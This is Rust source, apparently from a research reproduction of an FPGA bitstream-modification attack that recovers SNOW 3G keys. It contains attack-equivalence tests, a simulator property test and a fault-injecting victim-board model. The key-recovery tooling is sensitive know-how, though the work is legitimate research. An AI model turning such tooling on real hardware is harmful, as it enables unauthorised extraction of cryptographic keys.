    assert_eq!(batched.recovered.iv, serial.recovered.iv);
    assert_eq!(batched.recovered.initial_state, serial.recovered.initial_state);
    assert_eq!(batched.z_luts, serial.z_luts, "verified keystream-path LUTs");
    assert_eq!(batched.feedback_luts, serial.feedback_luts, "feedback LUTs");
    assert_eq!(batched.beta_edits, serial.beta_edits);
    assert_eq!(batched.dead_candidates, serial.dead_candidates);
    assert_eq!(batched.candidate_counts, serial.candidate_counts);
    assert_eq!(batched.alpha_keystream, serial.alpha_keystream);
    assert_eq!(
        batched.alpha_bitstream.as_bytes(),
        serial.alpha_bitstream.as_bytes(),
        "the final α bitstream is byte-identical"
    );
    assert_eq!(batched.oracle_loads, serial.oracle_loads, "load accounting");
    assert_eq!(batched.resilience, serial.resilience, "resilience counters");
}

#[test]
fn batched_clean_attack_equals_serial() {
    let board = build_board();
    let golden = board.extract_bitstream();

    let serial = Attack::new(&board, golden.clone()).expect("prepares").run().expect("serial runs");
    let batched = Attack::new(&board, golden)
        .expect("prepares")
        .with_batch(GANG_LANES)
        .run()
        .expect("batched runs");

    assert_eq!(serial.recovered.key, TEST_SET_1_KEY);
    assert_equivalent(&serial, &batched);
}

#[test]
fn small_batch_width_equals_serial() {
    // The greedy batch planner must be width-independent, not just
    // correct at the gang width: width 3 exercises many batch
    // boundaries, including boundaries forced by the cap rather than
    // by overlap closure.
    let board = build_board();
    let golden = board.extract_bitstream();

    let serial = Attack::new(&board, golden.clone()).expect("prepares").run().expect("serial runs");
    let batched =
        Attack::new(&board, golden).expect("prepares").with_batch(3).run().expect("batched runs");
    assert_equivalent(&serial, &batched);
}

#[test]
fn batched_noisy_attack_replays_the_serial_fault_trace() {
    // Against the fault-injecting board the resilience layer is not
    // in pass-through (majority voting draws RNG per item), so the
    // batched path must execute per item sequentially — identical
    // fault draws, identical retries, identical board-side fault
    // accounting.
    let run = |batch: usize| {
        let spec =
            SessionSpec::builder().noisy(true).seed(7).batch(batch).build().expect("valid spec");
        let noisy = UnreliableBoard::new(build_board(), spec.fault_profile());
        let golden = noisy.extract_bitstream();
        let session = spec.run_harnessed(&noisy, golden, &io(Telemetry::off())).expect("runs");
        (session.attack.expect("recovers"), noisy.fault_stats())
    };
    let (serial, serial_faults) = run(1);
    let (batched, batched_faults) = run(GANG_LANES);

    assert_eq!(serial.recovered.key, TEST_SET_1_KEY);
    assert_equivalent(&serial, &batched);
    assert_eq!(
        batched_faults.loads_attempted, serial_faults.loads_attempted,
        "identical physical load sequence"
    );
    assert_eq!(batched_faults.transient_failures, serial_faults.transient_failures);
    assert_eq!(batched_faults.bits_flipped, serial_faults.bits_flipped);
}

#[test]
fn traced_batched_run_is_bit_identical_to_untraced() {
    let board = build_board();
    let golden = board.extract_bitstream();
    let trace_path =
        std::env::temp_dir().join(format!("bitmod-batch-trace-{}.ndjson", std::process::id()));

    let spec = SessionSpec::builder().batch(GANG_LANES).build().expect("valid spec");
    let untraced = spec
        .run_harnessed(&board, golden.clone(), &io(Telemetry::off()))
        .expect("runs")
        .attack
        .expect("recovers");
    let telemetry = Telemetry::to_path(&trace_path).expect("trace sink opens");
    let traced = spec
        .run_harnessed(&board, golden, &io(telemetry.clone()))
        .expect("runs")
        .attack
        .expect("recovers");
    telemetry.finish().expect("trace flushes");

    assert_equivalent(&untraced, &traced);
    let trace = std::fs::read_to_string(&trace_path).expect("trace written");
    assert!(trace.lines().any(|l| l.contains("\"batch\"")), "batch events recorded");
    let _ = std::fs::remove_file(&trace_path);
}
