//! Differential property test: every gang lane must be bit-identical
//! to the scalar simulator programmed with the same bitstream, over
//! random routing databases (single-output LUTs, fractured O5/O6
//! pairs, block RAMs, flip-flops, ties), random LUT INITs and random
//! input sequences.

use boolfn::DualOutputInit;
use fpga_sim::fabric::{BramCellDb, FfCell, LutCell, RoutingDb};
use fpga_sim::gang::GANG_LANES;
use fpga_sim::{Fpga, Geometry, SiteId};
use netlist::NodeId;
use proptest::prelude::*;

use bitstream::{codec, Bitstream, BitstreamBuilder, FrameData};

/// A deterministic splitmix-style generator so the whole device is a
/// pure function of one proptest-drawn seed.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

/// Builds a random layered (hence cycle-free) device: primary inputs
/// and FF outputs feed LUT layers; a BRAM sits mid-cone; FF D inputs
/// close the sequential loop over arbitrary nets.
fn random_device(seed: u64) -> (Fpga, Vec<NodeId>) {
    let mut rng = Rng(seed);
    let geometry = Geometry::with_columns(2);
    let sites: Vec<SiteId> = geometry.sites().collect();
    let mut next_net = 0u32;
    let mut fresh = || {
        next_net += 1;
        NodeId(next_net - 1)
    };
    let n_inputs = 2 + rng.below(3);
    let inputs: Vec<NodeId> = (0..n_inputs).map(|_| fresh()).collect();
    let n_ffs = 2 + rng.below(4);
    let ff_q: Vec<NodeId> = (0..n_ffs).map(|_| fresh()).collect();
    let tie = fresh();
    // The pool of nets a later cell may read.
    let mut pool: Vec<NodeId> = inputs.iter().chain(&ff_q).copied().collect();
    pool.push(tie);

    let mut luts = Vec::new();
    let mut brams = Vec::new();
    let n_luts = 3 + rng.below(6);
    for _ in 0..n_luts {
        let n_pins = 1 + rng.below(6);
        let ins: Vec<NodeId> = (0..n_pins).map(|_| pool[rng.below(pool.len())]).collect();
        let o6 = fresh();
        let fractured = n_pins <= 5 && rng.below(3) == 0;
        let o5 = fractured.then(&mut fresh);
        luts.push(LutCell { site: sites[luts.len()], inputs: ins, o6, o5 });
        pool.push(o6);
        if let Some(o5) = o5 {
            pool.push(o5);
        }
    }
    if rng.below(2) == 0 {
        let mut table = Box::new([0u32; 256]);
        for w in table.iter_mut() {
            *w = rng.next() as u32;
        }
        let addr: Vec<NodeId> = (0..8).map(|_| pool[rng.below(pool.len())]).collect();
        let data: Vec<NodeId> = (0..32).map(|_| fresh()).collect();
        pool.extend(&data);
        brams.push(BramCellDb { table, addr, data });
    }
    let ffs: Vec<FfCell> = ff_q
        .iter()
        .map(|&q| FfCell { q, d: pool[rng.below(pool.len())], init: rng.below(2) == 0 })
        .collect();
    let db = RoutingDb {
        luts,
        ffs,
        brams,
        inputs: inputs.iter().map(|&n| (format!("i{}", n.index()), n)).collect(),
        ties: vec![(tie, rng.below(2) == 0)],
    };
    (Fpga::new(geometry, db), inputs)
}

/// A bitstream assigning a random INIT to every LUT site the device
/// uses.
fn random_bitstream(fpga: &Fpga, rng: &mut Rng) -> Bitstream {
    let mut frames = FrameData::new(fpga.geometry().frame_count());
    for cell in &fpga.routing_db().luts {
        let loc = fpga.geometry().lut_location(cell.site);
        codec::write_lut(frames.as_mut_bytes(), loc, DualOutputInit::new(rng.next()));
    }
    BitstreamBuilder::new(frames).build()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(32))]

    #[test]
    fn every_gang_lane_matches_the_scalar_simulator(
        device_seed in any::<u64>(),
        config_seed in any::<u64>(),
        n_lanes in 1usize..=GANG_LANES,
        cycles in 1usize..8,
    ) {
        let (fpga, inputs) = random_device(device_seed);
        let mut rng = Rng(config_seed);
        let streams: Vec<Bitstream> =
            (0..n_lanes).map(|_| random_bitstream(&fpga, &mut rng)).collect();
        let refs: Vec<&Bitstream> = streams.iter().collect();
        let mut gang = fpga.program_gang(&refs).expect("gang programs");
        let mut scalars: Vec<_> = streams
            .iter()
            .map(|bs| fpga.program(bs).expect("scalar programs"))
            .collect();
        let net_count = {
            let db = fpga.routing_db();
            let mut max = 0u32;
            for l in &db.luts {
                max = max.max(l.o6.0 + 1);
                if let Some(o5) = l.o5 { max = max.max(o5.0 + 1); }
            }
            for f in &db.ffs { max = max.max(f.q.0 + 1).max(f.d.0 + 1); }
            for b in &db.brams {
                for &d in &b.data { max = max.max(d.0 + 1); }
            }
            max
        };
        for _ in 0..cycles {
            // Random per-lane input drive: one mask per input net.
            for &net in &inputs {
                let mask = rng.next();
                gang.set_input(net, mask);
                for (lane, dev) in scalars.iter_mut().enumerate() {
                    dev.set_input(net, (mask >> lane) & 1 == 1);
                }
            }
            gang.step();
            for (lane, dev) in scalars.iter_mut().enumerate() {
                dev.step();
                for net in 0..net_count {
                    prop_assert_eq!(
                        gang.net(lane, NodeId(net)),
                        dev.net(NodeId(net)),
                        "seed ({}, {}) lane {} net {} cycle {}",
                        device_seed, config_seed, lane, net, gang.cycle()
                    );
                }
            }
        }
    }
}
