//! A flaky victim board: the [`Snow3gBoard`] behind an unreliable
//! configuration link.
//!
//! The paper's experiments ran against a real Artix-7 over a
//! configuration port. On real hardware, loads transiently fail
//! (`INIT_B` pulses low on a perfectly valid stream), the port can
//! stop responding, and keystream readback can glitch individual
//! bits or cut a transfer short. Real fault behaviour is also
//! *correlated*: glitches arrive in bursts (modelled here as a
//! Gilbert–Elliott two-state chain), boards degrade progressively as
//! they age (fault-rate drift over loads), readback bits get stuck,
//! and boards die outright. [`UnreliableBoard`] injects exactly those
//! fault classes behind the same *load bitstream / read keystream*
//! interface the ideal board exposes.
//!
//! Every fault decision is a **pure function of
//! `(profile.seed, load index)`**: each physical load draws from its
//! own counter-keyed RNG stream ([`rand::counter_rng`]), and the
//! burst chain's state at load `q` is computed by iterating a second
//! counter stream from load 0. Consequences:
//!
//! * a snapshot needs no RNG state — [`FaultSnapshot`] is just the
//!   profile plus the fault counters, and restoring the counters
//!   resumes the bit-identical fault trace;
//! * faults can be **planned ahead** without being committed
//!   ([`UnreliableBoard::plan_read`] /
//!   [`UnreliableBoard::commit_plans`]), which is what lets the
//!   resilience layer run batched noisy queries that are
//!   deterministically equal to the serial loop.

use std::sync::Mutex;

use rand::{counter_rng, Rng, RngCore};

use bitstream::Bitstream;

use crate::board::{BoardError, Snow3gBoard};
use crate::fabric::{Fpga, ProgramError};

/// Counter-stream tags: each fault-model concern draws from its own
/// keyed stream so adding draws to one can never perturb another.
const STREAM_READ: u64 = 1;
const STREAM_BURST: u64 = 2;

/// The seeded fault model of an unreliable board. All probabilities
/// are per-event in `[0, 1]`. Every load's draws come from a counter
/// stream keyed by `(seed, load index)` in a fixed order (load
/// failure, timeout, truncation point, then one draw per keystream
/// bit), so the complete fault trace is a pure function of the seed —
/// independent of call interleaving, batching, or process restarts.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct FaultProfile {
    /// RNG seed; the whole fault trace is a function of it.
    pub seed: u64,
    /// Probability a load aborts with [`ProgramError::TransientLoad`].
    pub load_failure: f64,
    /// Probability a load aborts with [`ProgramError::ConfigTimeout`].
    pub timeout: f64,
    /// Per-bit probability that a keystream bit reads back flipped
    /// (the Gilbert–Elliott *good* state rate).
    pub bit_glitch: f64,
    /// Probability a keystream read returns fewer words than asked.
    pub truncate: f64,
    /// Gilbert–Elliott: per-load probability of entering the bursty
    /// *bad* state (0 disables the chain).
    pub burst_enter: f64,
    /// Gilbert–Elliott: per-load probability of leaving the bad state.
    pub burst_exit: f64,
    /// Per-bit glitch probability while the chain is in the bad state
    /// (replaces `bit_glitch` for those loads).
    pub burst_glitch: f64,
    /// Progressive degradation: every fault rate is multiplied by
    /// `1 + drift × load_index` (clamped to 1), modelling a board
    /// whose link degrades as it ages. 0 disables drift.
    pub drift: f64,
    /// Keystream bits stuck at 0 on every read (readback line faults).
    pub stuck_mask: u32,
    /// Number of loads *this physical board* performs before it dies
    /// permanently ([`ProgramError::BoardDead`] from then on). Wear is
    /// board-local: a board that inherits a journalled session via
    /// [`UnreliableBoard::restore`] counts its fuse from the restore
    /// point, not from the session's accumulated load position.
    /// Board-local pathology: excluded from
    /// [`FaultProfile::same_ambient`], so a session journalled on a
    /// dying board restores onto a healthy replacement.
    pub dies_at: Option<u64>,
}

impl FaultProfile {
    /// A fault-free profile (the wrapper becomes a transparent proxy).
    #[must_use]
    pub fn clean(seed: u64) -> Self {
        Self {
            seed,
            load_failure: 0.0,
            timeout: 0.0,
            bit_glitch: 0.0,
            truncate: 0.0,
            burst_enter: 0.0,
            burst_exit: 0.0,
            burst_glitch: 0.0,
            drift: 0.0,
            stuck_mask: 0,
            dies_at: None,
        }
    }

    /// The "flaky lab board" preset the noise experiments use: 10%
    /// transient load failures, 2% timeouts, 1% keystream bit
    /// glitches, 2% truncated reads; no burst chain, drift or
    /// pathology.
    #[must_use]
    pub fn flaky(seed: u64) -> Self {
        Self {
            load_failure: 0.10,
            timeout: 0.02,
            bit_glitch: 0.01,
            truncate: 0.02,
            ..Self::clean(seed)
        }
    }

    /// The "bursty board" preset: the flaky rates plus a
    /// Gilbert–Elliott chain that enters a 12%-per-bit glitch storm
    /// with 5% probability per load and leaves it with 30%.
    #[must_use]
    pub fn bursty(seed: u64) -> Self {
        Self { burst_enter: 0.05, burst_exit: 0.30, burst_glitch: 0.12, ..Self::flaky(seed) }
    }

    /// Overrides the transient-load-failure probability.
    #[must_use]
    pub fn with_load_failure(mut self, p: f64) -> Self {
        self.load_failure = p;
        self
    }

    /// Overrides the timeout probability.
    #[must_use]
    pub fn with_timeout(mut self, p: f64) -> Self {
        self.timeout = p;
        self
    }

    /// Overrides the per-bit keystream glitch probability.
    #[must_use]
    pub fn with_bit_glitch(mut self, p: f64) -> Self {
        self.bit_glitch = p;
        self
    }

    /// Overrides the truncated-read probability.
    #[must_use]
    pub fn with_truncate(mut self, p: f64) -> Self {
        self.truncate = p;
        self
    }

    /// Configures the Gilbert–Elliott burst chain.
    #[must_use]
    pub fn with_burst(mut self, enter: f64, exit: f64, glitch: f64) -> Self {
        self.burst_enter = enter;
        self.burst_exit = exit;
        self.burst_glitch = glitch;
        self
    }

    /// Configures progressive fault-rate drift.
    #[must_use]
    pub fn with_drift(mut self, drift: f64) -> Self {
        self.drift = drift;
        self
    }

    /// Configures stuck-at-0 keystream bits.
    #[must_use]
    pub fn with_stuck_mask(mut self, mask: u32) -> Self {
        self.stuck_mask = mask;
        self
    }

    /// Configures permanent board death after `load` loads of local
    /// wear (loads this physical board performs — a restored session's
    /// inherited load position does not count against the fuse).
    #[must_use]
    pub fn with_dies_at(mut self, load: u64) -> Self {
        self.dies_at = Some(load);
        self
    }

    /// Whether two profiles drive the same *ambient* fault trace —
    /// every trace-determining field except board-local pathology
    /// (`dies_at`). A journal snapshot taken on a dying board restores
    /// onto any ambient-equal board: the counter-keyed draws replay
    /// identically, only the death point differs.
    #[must_use]
    pub fn same_ambient(&self, other: &Self) -> bool {
        let a = Self { dies_at: None, ..*self };
        let b = Self { dies_at: None, ..*other };
        a == b
    }
}

/// Counters of the faults actually injected so far.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FaultStats {
    /// Keystream requests received (including failed ones).
    pub loads_attempted: u64,
    /// Loads aborted with a transient failure.
    pub transient_failures: u64,
    /// Loads aborted with a simulated timeout.
    pub timeouts: u64,
    /// Keystream reads that returned fewer words than requested.
    pub truncated_reads: u64,
    /// Keystream bits flipped by glitch injection.
    pub bits_flipped: u64,
}

impl FaultStats {
    /// Total faults injected across all classes — the board-side
    /// number a telemetry trace sets against the retries the attack
    /// *observed* (glitched bits that majority voting silently
    /// outvotes never surface as retries).
    #[must_use]
    pub fn injected(&self) -> u64 {
        self.transient_failures + self.timeouts + self.truncated_reads + self.bits_flipped
    }
}

/// What the fault model decided for one (planned or executed)
/// physical read. Produced by [`UnreliableBoard::plan_read`]; a plan
/// is *pure* — nothing changes on the board until
/// [`UnreliableBoard::commit_plans`] applies it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ReadPlan {
    /// The load index this plan is for (`loads_attempted` at commit
    /// time; commits must arrive in index order).
    pub query: u64,
    /// The planned outcome.
    pub outcome: ReadOutcome,
}

/// The outcome a [`ReadPlan`] prescribes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ReadOutcome {
    /// The load aborts with [`ProgramError::TransientLoad`].
    TransientLoad,
    /// The load aborts with [`ProgramError::ConfigTimeout`].
    Timeout {
        /// Simulated milliseconds waited.
        ms: u64,
    },
    /// The board is permanently dead ([`ProgramError::BoardDead`]).
    Dead,
    /// The read succeeds: return `keep` words of the true keystream,
    /// XORed with the per-word glitch masks and ANDed with the
    /// inverted stuck mask.
    Read {
        /// Words actually returned (< requested when `truncated`).
        keep: usize,
        /// Whether this read was cut short by a truncation fault.
        truncated: bool,
        /// Per-word glitch XOR masks (`keep` entries).
        glitch: Vec<u32>,
    },
}

impl ReadPlan {
    /// Faults this plan injects, by class — the stats delta a commit
    /// applies.
    #[must_use]
    pub fn injected_bits(&self) -> u64 {
        match &self.outcome {
            ReadOutcome::Read { glitch, .. } => {
                glitch.iter().map(|m| u64::from(m.count_ones())).sum()
            }
            _ => 0,
        }
    }
}

/// A portable snapshot of an [`UnreliableBoard`]'s mutable state: the
/// fault profile it was configured with and the fault counters.
///
/// No RNG state: every draw is a pure function of
/// `(profile.seed, load index)`, so the counters alone pin the exact
/// resume point — a run killed after N loads and restored from a
/// snapshot injects exactly the faults loads N+1, N+2, ... of an
/// uninterrupted run would see.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct FaultSnapshot {
    /// The profile in force when the snapshot was taken.
    pub profile: FaultProfile,
    /// Fault counters at the snapshot point.
    pub stats: FaultStats,
}

impl FaultSnapshot {
    /// Serialized size of [`FaultSnapshot::to_bytes`].
    pub const BYTES: usize = 126;
    /// Format version (bumped when counter-keyed streams replaced the
    /// journalled RNG state).
    pub const VERSION: u8 = 2;

    /// Encodes the snapshot as a fixed-width little-endian record
    /// (the opaque oracle-state section of an attack journal).
    #[must_use]
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(Self::BYTES);
        out.push(Self::VERSION);
        out.extend_from_slice(&self.profile.seed.to_le_bytes());
        for p in [
            self.profile.load_failure,
            self.profile.timeout,
            self.profile.bit_glitch,
            self.profile.truncate,
            self.profile.burst_enter,
            self.profile.burst_exit,
            self.profile.burst_glitch,
            self.profile.drift,
        ] {
            out.extend_from_slice(&p.to_bits().to_le_bytes());
        }
        out.extend_from_slice(&self.profile.stuck_mask.to_le_bytes());
        out.push(u8::from(self.profile.dies_at.is_some()));
        out.extend_from_slice(&self.profile.dies_at.unwrap_or(0).to_le_bytes());
        for c in [
            self.stats.loads_attempted,
            self.stats.transient_failures,
            self.stats.timeouts,
            self.stats.truncated_reads,
            self.stats.bits_flipped,
        ] {
            out.extend_from_slice(&c.to_le_bytes());
        }
        debug_assert_eq!(out.len(), Self::BYTES);
        out
    }

    /// Decodes a [`FaultSnapshot::to_bytes`] record; `None` if the
    /// version or length is wrong or a probability field is not a
    /// valid probability (corruption that slipped past outer CRC
    /// guards).
    #[must_use]
    pub fn from_bytes(bytes: &[u8]) -> Option<Self> {
        if bytes.len() != Self::BYTES || bytes[0] != Self::VERSION {
            return None;
        }
        let u64_at = |i: usize| {
            let mut b = [0u8; 8];
            b.copy_from_slice(&bytes[i..i + 8]);
            u64::from_le_bytes(b)
        };
        let prob_at = |i: usize| {
            let p = f64::from_bits(u64_at(i));
            ((0.0..=1.0).contains(&p)).then_some(p)
        };
        let drift = f64::from_bits(u64_at(65));
        if !drift.is_finite() || drift < 0.0 {
            return None;
        }
        let mut stuck = [0u8; 4];
        stuck.copy_from_slice(&bytes[73..77]);
        let dies_at = match bytes[77] {
            0 => None,
            1 => Some(u64_at(78)),
            _ => return None,
        };
        Some(Self {
            profile: FaultProfile {
                seed: u64_at(1),
                load_failure: prob_at(9)?,
                timeout: prob_at(17)?,
                bit_glitch: prob_at(25)?,
                truncate: prob_at(33)?,
                burst_enter: prob_at(41)?,
                burst_exit: prob_at(49)?,
                burst_glitch: prob_at(57)?,
                drift,
                stuck_mask: u32::from_le_bytes(stuck),
                dies_at,
            },
            stats: FaultStats {
                loads_attempted: u64_at(86),
                transient_failures: u64_at(94),
                timeouts: u64_at(102),
                truncated_reads: u64_at(110),
                bits_flipped: u64_at(118),
            },
        })
    }
}

/// An error restoring a [`FaultSnapshot`] onto a board.
#[derive(Debug, Clone, PartialEq)]
pub enum RestoreError {
    /// The snapshot was taken under a different *ambient* fault
    /// profile; resuming would not reproduce the interrupted trace.
    /// (Board-local pathology — `dies_at` — may differ: that is
    /// exactly how a session migrates off a dead board.)
    ProfileMismatch {
        /// The profile the board is configured with.
        board: Box<FaultProfile>,
        /// The profile recorded in the snapshot.
        snapshot: Box<FaultProfile>,
    },
}

impl std::fmt::Display for RestoreError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            RestoreError::ProfileMismatch { board, snapshot } => write!(
                f,
                "fault-profile mismatch: board is configured with {board:?} \
                 but the snapshot was taken under {snapshot:?}"
            ),
        }
    }
}

impl std::error::Error for RestoreError {}

/// Burst-chain memo: the chain state after `loads` transitions.
/// Recomputable from scratch (the chain is a pure iterated function
/// of the seed), cached because loads are usually monotone.
#[derive(Debug, Clone, Copy)]
struct BurstMemo {
    loads: u64,
    bad: bool,
}

/// The [`Snow3gBoard`] behind an unreliable configuration link.
///
/// Exposes the board interface the attack drives (extract the golden
/// bitstream, load a bitstream and read keystream words) with faults
/// injected per the profile. Interior mutability keeps the interface
/// `&self` like the ideal board's; the only mutable state is the
/// fault counters (plus a recomputable burst-chain memo).
#[derive(Debug)]
pub struct UnreliableBoard {
    inner: Snow3gBoard,
    profile: FaultProfile,
    stats: Mutex<FaultStats>,
    burst: Mutex<BurstMemo>,
    /// The fault counters inherited from the last [`Self::restore`]:
    /// session history some *other* physical board already performed.
    /// Local wear — what drives the `dies_at` fuse and per-board
    /// health accounting — is `stats − inherited`.
    inherited: Mutex<FaultStats>,
}

impl UnreliableBoard {
    /// Wraps a board in the fault model.
    #[must_use]
    pub fn new(inner: Snow3gBoard, profile: FaultProfile) -> Self {
        Self {
            inner,
            profile,
            stats: Mutex::new(FaultStats::default()),
            burst: Mutex::new(BurstMemo { loads: 0, bad: false }),
            inherited: Mutex::new(FaultStats::default()),
        }
    }

    /// The ideal board underneath (ground truth for tests, and the
    /// clean substrate batched noisy queries read device data from).
    #[must_use]
    pub fn inner(&self) -> &Snow3gBoard {
        &self.inner
    }

    /// Unwraps the fault model, returning the ideal board. Board
    /// pools use this to reclaim a pooled board after a noisy
    /// session finishes with it.
    #[must_use]
    pub fn into_inner(self) -> Snow3gBoard {
        self.inner
    }

    /// The active fault profile.
    #[must_use]
    pub fn profile(&self) -> &FaultProfile {
        &self.profile
    }

    /// Faults injected so far.
    ///
    /// # Panics
    ///
    /// Panics if a previous caller panicked while holding the
    /// internal lock.
    #[must_use]
    pub fn fault_stats(&self) -> FaultStats {
        *self.stats.lock().expect("fault stats lock")
    }

    /// Fault accounting attributable to *this* physical board: the
    /// session counters minus whatever a [`Self::restore`] inherited
    /// from a predecessor. Fleet board-health scoring uses this view,
    /// so a healthy board that picks up a dying peer's session is not
    /// blamed for the faults the dead board injected.
    ///
    /// # Panics
    ///
    /// Panics if a previous caller panicked while holding the
    /// internal lock.
    #[must_use]
    pub fn local_stats(&self) -> FaultStats {
        let total = self.fault_stats();
        let base = *self.inherited.lock().expect("inherited stats lock");
        FaultStats {
            loads_attempted: total.loads_attempted.saturating_sub(base.loads_attempted),
            transient_failures: total.transient_failures.saturating_sub(base.transient_failures),
            timeouts: total.timeouts.saturating_sub(base.timeouts),
            truncated_reads: total.truncated_reads.saturating_sub(base.truncated_reads),
            bits_flipped: total.bits_flipped.saturating_sub(base.bits_flipped),
        }
    }

    /// The load index (session position) at which this board's wear
    /// started: 0 for a fresh board, the restore point after a
    /// [`Self::restore`].
    fn wear_base(&self) -> u64 {
        self.inherited.lock().expect("inherited stats lock").loads_attempted
    }

    /// Whether the board has reached (or passed) its death point: the
    /// next load — and every one after it — will be rejected with
    /// [`ProgramError::BoardDead`]. The fuse counts *local wear*
    /// (loads this instance performed), so a board resuming a
    /// journalled session is not killed by its predecessor's mileage.
    /// Fleet health checks use this to quarantine the board and
    /// migrate its session.
    #[must_use]
    pub fn is_dead(&self) -> bool {
        self.profile.dies_at.is_some_and(|n| self.local_stats().loads_attempted >= n)
    }

    /// Snapshots the board's mutable state (profile and fault
    /// counters) for a crash-safe journal. No RNG state is needed:
    /// draws are counter-keyed by load index.
    #[must_use]
    pub fn snapshot(&self) -> FaultSnapshot {
        FaultSnapshot { profile: self.profile, stats: self.fault_stats() }
    }

    /// Restores a snapshot taken by [`UnreliableBoard::snapshot`],
    /// rewinding (or fast-forwarding) the fault trace to the exact
    /// point the snapshot captured.
    ///
    /// # Errors
    ///
    /// [`RestoreError::ProfileMismatch`] if the board's *ambient*
    /// profile differs from the snapshot's — the resumed trace would
    /// not reproduce the interrupted run. Board-local pathology
    /// (`dies_at`) may differ; that is how a journalled session
    /// migrates from a dying board to a healthy replacement.
    ///
    /// # Panics
    ///
    /// Panics if a previous caller panicked while holding the
    /// internal lock.
    pub fn restore(&self, snapshot: &FaultSnapshot) -> Result<(), RestoreError> {
        if !self.profile.same_ambient(&snapshot.profile) {
            return Err(RestoreError::ProfileMismatch {
                board: Box::new(self.profile),
                snapshot: Box::new(snapshot.profile),
            });
        }
        *self.stats.lock().expect("fault stats lock") = snapshot.stats;
        // The restored counters are session history, not this board's
        // wear: the `dies_at` fuse and `local_stats` count from here.
        *self.inherited.lock().expect("inherited stats lock") = snapshot.stats;
        Ok(())
    }

    /// Extracting the bitstream from external flash does not use the
    /// configuration port; it is reliable.
    #[must_use]
    pub fn extract_bitstream(&self) -> Bitstream {
        self.inner.extract_bitstream()
    }

    /// The device model (public knowledge, same as the ideal board).
    #[must_use]
    pub fn fpga(&self) -> &Fpga {
        self.inner.fpga()
    }

    /// The burst-chain state at load `q` (true = bad/bursty). A pure
    /// iterated function of the seed, memoised for monotone access.
    fn burst_bad_at(&self, q: u64) -> bool {
        if self.profile.burst_enter <= 0.0 {
            return false;
        }
        let mut memo = self.burst.lock().expect("burst memo lock");
        if memo.loads > q {
            *memo = BurstMemo { loads: 0, bad: false };
        }
        while memo.loads < q {
            let mut rng = counter_rng(self.profile.seed, STREAM_BURST, memo.loads);
            let p = if memo.bad { self.profile.burst_exit } else { self.profile.burst_enter };
            if bernoulli(&mut rng, p) {
                memo.bad = !memo.bad;
            }
            memo.loads += 1;
        }
        memo.bad
    }

    /// A fault rate after progressive drift at load `q`.
    fn rate_at(&self, base: f64, q: u64) -> f64 {
        if self.profile.drift <= 0.0 {
            return base;
        }
        #[allow(clippy::cast_precision_loss)]
        (base * (1.0 + self.profile.drift * q as f64)).clamp(0.0, 1.0)
    }

    /// Plans the fault decisions of the read at absolute load index
    /// `q` — pure: repeated calls return the same plan and nothing on
    /// the board changes.
    fn plan_at(&self, q: u64, words: usize) -> ReadPlan {
        // The death fuse measures local wear: loads this instance
        // performed, i.e. the session position minus the inherited
        // restore point.
        if self.profile.dies_at.is_some_and(|n| q.saturating_sub(self.wear_base()) >= n) {
            return ReadPlan { query: q, outcome: ReadOutcome::Dead };
        }
        // Fixed draw order within the read's own counter stream:
        // load glitch, timeout (+ duration), truncation (+ point),
        // then one draw per returned bit.
        let mut rng = counter_rng(self.profile.seed, STREAM_READ, q);
        if bernoulli(&mut rng, self.rate_at(self.profile.load_failure, q)) {
            return ReadPlan { query: q, outcome: ReadOutcome::TransientLoad };
        }
        if bernoulli(&mut rng, self.rate_at(self.profile.timeout, q)) {
            let ms = 100 + rng.gen_range(0u64..900);
            return ReadPlan { query: q, outcome: ReadOutcome::Timeout { ms } };
        }
        let truncated = words > 0 && bernoulli(&mut rng, self.rate_at(self.profile.truncate, q));
        let keep = if truncated { rng.gen_range(0..words) } else { words };
        let base =
            if self.burst_bad_at(q) { self.profile.burst_glitch } else { self.profile.bit_glitch };
        let p = self.rate_at(base, q);
        let glitch: Vec<u32> = (0..keep)
            .map(|_| {
                let mut mask = 0u32;
                if p > 0.0 {
                    for bit in 0..32 {
                        if bernoulli(&mut rng, p) {
                            mask |= 1 << bit;
                        }
                    }
                }
                mask
            })
            .collect();
        ReadPlan { query: q, outcome: ReadOutcome::Read { keep, truncated, glitch } }
    }

    /// Plans the read `ahead` loads past the current commit point
    /// without committing anything. `plan_read(0, w)` is the next
    /// physical read; `plan_read(1, w)` the one after it, and so on —
    /// the speculative lookahead batched noisy execution uses.
    ///
    /// # Panics
    ///
    /// Panics if a previous caller panicked while holding the
    /// internal lock.
    #[must_use]
    pub fn plan_read(&self, ahead: u64, words: usize) -> ReadPlan {
        let q = self.fault_stats().loads_attempted + ahead;
        self.plan_at(q, words)
    }

    /// Commits planned reads in load-index order, applying their
    /// stats deltas. Committing exactly the plans a serial run would
    /// have executed leaves the board in the bit-identical state.
    ///
    /// # Panics
    ///
    /// Panics in debug builds if plans arrive out of order, and if a
    /// previous caller panicked while holding the internal lock.
    pub fn commit_plans(&self, plans: &[ReadPlan]) {
        let mut stats = self.stats.lock().expect("fault stats lock");
        for plan in plans {
            debug_assert_eq!(plan.query, stats.loads_attempted, "plans commit in load order");
            stats.loads_attempted += 1;
            match &plan.outcome {
                ReadOutcome::TransientLoad => stats.transient_failures += 1,
                ReadOutcome::Timeout { .. } => stats.timeouts += 1,
                ReadOutcome::Dead => {}
                ReadOutcome::Read { truncated, glitch, .. } => {
                    if *truncated {
                        stats.truncated_reads += 1;
                    }
                    stats.bits_flipped +=
                        glitch.iter().map(|m| u64::from(m.count_ones())).sum::<u64>();
                }
            }
        }
    }

    /// Executes a committed plan's data path against the clean device
    /// output: truncation, glitch masks, stuck bits.
    ///
    /// # Errors
    ///
    /// The typed fault the plan prescribes, or the ideal board's own
    /// error for the underlying read.
